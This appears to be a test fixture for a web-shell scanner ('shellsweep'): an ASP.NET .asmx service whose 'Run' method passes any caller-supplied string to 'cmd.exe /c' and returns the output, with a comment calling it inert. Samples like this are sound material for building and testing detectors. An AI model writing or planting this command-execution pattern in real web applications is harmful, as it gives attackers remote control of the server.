<%@ WebService Language="C#" Class="Svc" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
public class Svc : System.Web.Services.WebService {
  [System.Web.Services.WebMethod]
  public string Run(string c) {
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
  }
}
